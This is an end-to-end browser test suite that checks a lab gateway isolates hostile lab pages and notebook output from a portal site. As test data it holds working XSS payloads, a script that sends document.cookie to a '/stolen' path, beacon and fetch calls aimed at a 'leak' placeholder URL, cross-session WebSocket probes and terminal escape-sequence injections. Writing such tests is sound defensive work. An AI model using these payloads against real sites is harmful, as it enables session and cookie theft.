"""Rows 23, 25, 26 and 27 of the list of attacks, where the browser is the defence: Chromium before a real gateway.

The lab's page and the rich output are the attacker's; the portal is a small site that says which cookies reach it.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
import subprocess
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import Browser, async_playwright

from tests.redis_server import free_port
from tests.workers.gateway.world import OTHER_SESSION, SANDBOX, SESSION, World, world
from workers import tickets
from workers.config import ROOT, settings

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]
FRAME_FILES = ROOT / "static" / "build"
LAB_SOURCE = ROOT / "static" / "src" / "lab"
ANSI = LAB_SOURCE / "ansi.js"
COOKIES = {"sessionid": "the-portals-session", "csrftoken": "the-portals-token"}


@dataclass
class Site:
    """A web site of one port; ``seen`` is what reached it: path and cookies."""

    port: int
    pages: dict[str, str] = field(default_factory=dict)
    cookies: list[str] = field(default_factory=list)
    policy: str = ""
    seen: list[tuple[str, str]] = field(default_factory=list)

    async def answer(self, request: web.Request) -> web.StreamResponse:
        self.seen.append((request.path_qs, request.headers.get("Cookie", "")))
        kind = "text/javascript" if request.path.endswith(".js") else "text/html"
        response = web.Response(text=self.pages.get(request.path, ""), content_type=kind, charset="utf-8")
        if self.policy:
            response.headers["Content-Security-Policy"] = self.policy
        for cookie in self.cookies:
            response.headers.add("Set-Cookie", cookie)
        return response

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/{path:.*}", self.answer)
        return app


@dataclass
class Stage:
    """The portal at ``localhost``, the lab's hostile page behind the gateway, another site, and a browser."""

    gateway: World
    portal: Site
    page: Site
    evil: Site
    browser: Browser

    def lab_url(self, path: str = "/", session: str = SESSION) -> str:
        ticket = tickets.issue(session, "ana", "port-8000")
        return f"http://{self.gateway.host('port-8000', session)}{path}?ticket={ticket}"


@pytest.fixture
def portal_port(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    port = free_port()
    monkeypatch.setenv("LABS_GATEWAY_KEY", "k" * 40)
    monkeypatch.setenv("LABS_PORTAL_ORIGINS", f"http://localhost:{port}")
    settings.cache_clear()
    yield port
    settings.cache_clear()


@contextlib.asynccontextmanager
async def stage(portal_port: int) -> AsyncIterator[Stage]:
    folder = Path(tempfile.mkdtemp(prefix="gw-", dir="/dev/shm"))
    portal, page, evil = Site(portal_port), Site(8000), Site(free_port())
    async with contextlib.AsyncExitStack() as stack:
        stack.callback(shutil.rmtree, folder)
        gateway = await stack.enter_async_context(world(folder, FRAME_FILES))
        for site in (portal, evil, page):
            runner = web.AppRunner(site.app())
            await runner.setup()
            stack.push_async_callback(runner.cleanup)
            socket = str(folder / SANDBOX / "lab" / "ui-8000.sock")
            listener = web.UnixSite(runner, socket) if site is page else web.TCPSite(runner, "127.0.0.1", site.port)
            await listener.start()
        playwright = await stack.enter_async_context(async_playwright())
        browser = await playwright.chromium.launch(
            executable_path=shutil.which("chromium"), args=["--no-sandbox", "--disable-gpu"]
        )
        stack.push_async_callback(browser.close)
        yield Stage(gateway, portal, page, evil, browser)


def run(portal_port: int, test: Callable[[Stage], Awaitable[None]]) -> None:
    async def main() -> None:
        async with stage(portal_port) as s:
            await test(s)

    asyncio.run(main())


def test_row_26_a_lab_page_neither_reads_nor_sets_the_portals_cookies(portal_port: int) -> None:
    async def test(s: Stage) -> None:
        home = f"http://localhost:{portal_port}/"
        s.portal.cookies = [f"{name}={value}; Path=/; SameSite=Lax" for name, value in COOKIES.items()]
        s.page.cookies = [
            *(f"{name}=evil; Path=/; Domain=localhost" for name in COOKIES),
            *(f"{name}=evil; Path=/; Domain=.localhost; Secure; SameSite=None" for name in COOKIES),
            "__Host-lab=evil; Path=/; Secure",
        ]
        s.page.pages["/"] = """<script>
            for (const name of ["sessionid", "csrftoken"])
                for (const more of ["", "; domain=localhost", "; domain=.localhost"])
                document.cookie = `${name}=evil; path=/${more}`;
            fetch("/stolen?" + encodeURIComponent(document.cookie)).then(() => document.title = "done");
        </script>"""
        context = await s.browser.new_context()
        tab = await context.new_page()
        await tab.goto(home)
        s.portal.cookies = []
        lab = await context.new_page()
        await lab.goto(s.lab_url())
        await lab.wait_for_function("document.title === 'done'")
        reached = " ".join(path + cookie for path, cookie in s.page.seen)
        assert all(value not in reached for value in COOKIES.values()), "the lab's page saw the portal's cookies"
        assert "__Host-lab" not in reached, "nor does it see the gateway's own"
        await tab.goto(home)
        sent = dict(pair.split("=", 1) for pair in s.portal.seen[-1][1].split("; "))
        assert sent == COOKIES
        await context.close()

    run(portal_port, test)


WEBSOCKETS = """
(addresses) => Promise.all(addresses.map((address) => new Promise((done) => {
    const socket = new WebSocket(address);
    socket.onopen = () => done("open");
    socket.onerror = () => done("refused");
})))
"""
REQUESTS = """
(addresses) => Promise.all(addresses.map((address) =>
    fetch(address, { method: "POST", credentials: "include", body: "x" }).then((r) => r.text()).catch(() => "refused")))
"""


def test_row_25_another_site_opens_no_websocket_and_reads_no_page_though_the_cookie_is_there(portal_port: int) -> None:
    async def test(s: Stage) -> None:
        s.page.pages["/"] = "the lab's own words"
        s.evil.pages["/"] = "<p>evil"
        context = await s.browser.new_context()
        lab = await context.new_page()
        await lab.goto(s.lab_url())
        assert "own words" in await lab.content(), "the browser holds a good cookie now"
        hosts = [s.gateway.host(ui) for ui in ("port-8000", "jupyter")]
        evil = await context.new_page()
        await evil.goto(f"http://127.0.0.1:{s.evil.port}/")
        before = len(s.page.seen)
        addresses = [f"ws://{host}/ws" for host in hosts]
        assert set(await evil.evaluate(WEBSOCKETS, addresses)) == {"refused"}
        assert set(await evil.evaluate(REQUESTS, [f"http://{host}/x" for host in hosts])) == {"refused"}
        assert len(s.page.seen) == before, "nothing arrived in the sandbox"
        await context.close()

    run(portal_port, test)


def test_row_27_a_lab_page_reaches_no_other_session_and_no_other_port(portal_port: int) -> None:
    async def test(s: Stage) -> None:
        s.page.pages["/"] = "<p>hostile"
        context = await s.browser.new_context()
        lab = await context.new_page()
        await lab.goto(s.lab_url())
        others = [
            s.gateway.host("port-8000", OTHER_SESSION),
            s.gateway.host("jupyter", OTHER_SESSION),
            s.gateway.host("jupyter"),
            s.gateway.host("port-9000"),
        ]
        assert set(await lab.evaluate(WEBSOCKETS, [f"ws://{host}/ws" for host in others])) == {"refused"}
        assert set(await lab.evaluate(REQUESTS, [f"http://{host}/lab/runs" for host in others])) == {"refused"}
        await context.close()

    run(portal_port, test)


ATTACKS = """
<script>window.ran = 1; parent.postMessage({ t: "owned" }, "*")</script>
<img src=x onerror="parent.postMessage({ t: 'ran', origin: self.origin }, '*');
  for (const act of [() => parent.document.title = 'owned', () => top.location = '{portal}leak?top',
    () => fetch('{portal}leak?fetch'), () => document.cookie = 'a=1', () => localStorage.a = 1,
    () => window.open('{portal}leak?open'), () => new Image().src = '{portal}leak?image',
    () => navigator.sendBeacon('{portal}leak?beacon'), () => new WebSocket('{portal}leak'.replace('http', 'ws')),
    () => new Worker('data:text/javascript,1')]) try { act() } catch (error) {}">
<iframe src="{portal}leak?iframe"></iframe><form action="{portal}leak?form"><button>x</button></form>
<link rel=stylesheet href="{portal}leak?css">
<svg onload="fetch('{portal}leak?svg')"><a href="javascript:fetch('{portal}leak?a')">x</a></svg>
"""
SVG = """<svg xmlns='http://www.w3.org/2000/svg' onload='fetch("{portal}leak?onload")'>
<script>fetch('{portal}leak?s')</script><image href='{portal}leak?i'/></svg>"""
PLOT = {
    "data": [{"x": [1], "y": [1], "text": ["<img src=x onerror=\"fetch('{portal}leak?plot')\">"], "mode": "text"}],
    "layout": {
        "title": {"text": "<a href=\"javascript:fetch('{portal}leak?title')\">t</a>"},
        "images": [{"source": "{portal}leak?layout", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
    },
}
LEAVING = [
    '<meta http-equiv=refresh content="0;url={portal}leak?refresh">',
    "<img src=x onerror=\"location = '{portal}leak?location'\">",
]
OUTER = """<title>portal</title><body><script>
const bundles = {bundles};
window.told = [];
window.kept = [];
addEventListener("securitypolicyviolation", (event) => kept.push(event.blockedURI));
const frames = bundles.map(() => document.body.appendChild(Object.assign(document.createElement("iframe"),
    { sandbox: "allow-scripts", src: "http://{host}/frame.html" })));
addEventListener("message", (event) => {
    told.push(event.data.t);
    const bundle = bundles[frames.findIndex((frame) => frame.contentWindow === event.source)];
    if (event.data.t === "ready") event.source.postMessage({ t: "show", bundle }, "*");
});
</script>"""


def test_row_23_rich_output_has_no_power_over_the_page_and_sends_nothing_out(portal_port: int) -> None:
    """One frame for each; the page around them has the portal's own rule on where its frames may go."""

    async def test(s: Stage) -> None:
        home = f"http://localhost:{portal_port}/"
        drawn = [{"text/html": ATTACKS}, {"image/svg+xml": SVG}, {"application/vnd.plotly.v1+json": PLOT}]
        drawn.append({"text/markdown": f"[x](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n{ATTACKS}"})
        bundles = [*drawn, *({"text/html": text} for text in LEAVING)]
        told = json.dumps(bundles).replace("{portal}", home).replace("</", "<\\/")
        s.portal.pages["/"] = OUTER.replace("{host}", s.gateway.host("frame")).replace("{bundles}", told)
        s.portal.policy = f"frame-src http://*.localhost:{s.gateway.port}"
        context = await s.browser.new_context()
        tab = await context.new_page()
        await tab.goto(home)
        frames = tab.locator("iframe")
        for number in range(len(drawn)):
            await frames.nth(number).content_frame.locator(".item").wait_for(state="attached")
        await frames.nth(2).content_frame.locator(".plot .main-svg").first.wait_for(state="attached")
        await tab.wait_for_function("kept.length > 0")  # the page kept a frame from leaving for another address
        assert set(await tab.evaluate("told")) == {"ready", "height", "drawn"}, "no code of theirs ran"
        assert await tab.title() == "portal"
        assert tab.url == home
        assert len(context.pages) == 1, "no window was opened"
        assert [path for path, _cookie in s.portal.seen if "leak" in path] == []
        await context.close()

    run(portal_port, test)


NOTEBOOK = """<title>portal</title><body><div id="out"></div><div id="text"></div><script src="/lab.js"></script>
<script>
const { events, source, gateway, session } = {told};
const frameFor = () => new lab.RichFrame(gateway, session);
const output = new lab.Output(document.querySelector("#out"), { frameFor, goTo() {}, knows: () => false });
output.start({ path: "main.ipynb#celda", started: 1 });
for (const event of events) output.add(event);
output.end({ state: "ok", seconds: 1 });
document.querySelector("#text").append(lab.markdownElements(source));
</script>"""
MODULES = "".join(f'export * from "./{name}.js";' for name in ("output", "richframe", "booktext"))


def lab_script() -> str:
    """The parts of the lab page that draw a notebook, as the build makes them."""
    command = [
        str(ROOT / "node_modules/.bin/esbuild"),
        "--bundle",
        "--format=iife",
        "--global-name=lab",
        "--log-level=error",
    ]
    made = subprocess.run(command, input=MODULES, cwd=LAB_SOURCE, capture_output=True, text=True, check=True)
    return made.stdout


def test_row_23_a_notebooks_output_and_text_never_become_script(portal_port: int) -> None:
    """On the lab page itself there is only text; what is rich goes to the frame, and a script as output nowhere."""

    async def test(s: Stage) -> None:
        home = f"http://localhost:{portal_port}/"
        hostile = ATTACKS.replace("{portal}", home)
        script = f"fetch('{home}leak?script'); window.ran = 1"
        bundles = [
            {"application/javascript": script, "text/plain": hostile},
            {"text/markdown": hostile, "text/latex": hostile},
            {"application/vnd.jupyter.widget-view+json": {"model_id": hostile}, "text/plain": hostile},
            {"text/html": hostile, "text/plain": hostile},
        ]
        events = [
            {"t": "stream", "name": "stdout", "text": hostile},
            {"t": "error", "ename": hostile, "evalue": hostile, "traceback": hostile},
            *({"t": "display", "data": bundle} for bundle in bundles),
        ]
        source = f"[a](javascript:alert(1)) [b](data:text/html,x) ![c]({home}leak?picture) <b>\n\n{hostile}\n\n# título"
        gateway = s.gateway.host("{ui}").replace(SESSION, "{session}")
        told = {"events": events, "source": source, "gateway": f"http://{gateway}", "session": SESSION}
        s.portal.pages["/"] = NOTEBOOK.replace("{told}", json.dumps(told).replace("</", "<\\/"))
        s.portal.pages["/lab.js"] = lab_script()
        s.portal.policy = f"frame-src http://*.localhost:{s.gateway.port}"
        context = await s.browser.new_context()
        tab = await context.new_page()
        await tab.goto(home)
        await tab.locator("#text h1").wait_for()
        frame = tab.locator("#out iframe")
        await frame.content_frame.locator(".item").wait_for(state="attached")
        assert await frame.get_attribute("sandbox") == "allow-scripts"
        assert (await frame.get_attribute("src") or "").startswith(f"http://{s.gateway.host('frame')}/")
        assert await tab.locator(":is(#out, #text) :is(script, img, form, link, iframe:not(.rich))").count() == 0
        assert await tab.locator("#text :is(a, svg)").count() == 0
        assert "<script>window.ran" in await tab.locator("#out .terminal").first.inner_text()
        assert await tab.evaluate("[window.ran, document.title]") == [None, "portal"]
        assert [path for path, _cookie in s.portal.seen if "leak" in path] == []
        await context.close()

    run(portal_port, test)


def test_row_23_a_terminals_escape_sequences_are_text_or_nothing(portal_port: int) -> None:
    async def test(s: Stage) -> None:
        s.portal.pages["/"] = '<script type="module">import { Ansi } from "/ansi.js"; window.Ansi = Ansi;</script>'
        s.portal.pages["/ansi.js"] = ANSI.read_text()
        tab = await s.browser.new_page()
        await tab.goto(f"http://localhost:{portal_port}/")
        await tab.wait_for_function("typeof window.Ansi === 'function'")
        hostile = [
            "\x1b]0;title\x07a", "\x1b]8;;javascript:alert(1)\x07b\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07c",
            "\x1b[2J\x1b[1;1Hd",
            "\x1bP$q\x1b\\e", "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m", "\u202efdp.exe", "\x1b]1337;File=x\x07f",
        ]  # fmt: skip
        parts = await tab.evaluate("(all) => all.map((text) => new Ansi().parse(text))", hostile)
        texts = ["".join(part["text"] for part in found) for found in parts]
        assert texts == ["a", "b", "c", "d", "e", "<img src=x onerror=alert(1)>", "fdp.exe", "f"]
        assert {part["className"] for found in parts for part in found} == {"", "ansi-red"}

    run(portal_port, test)
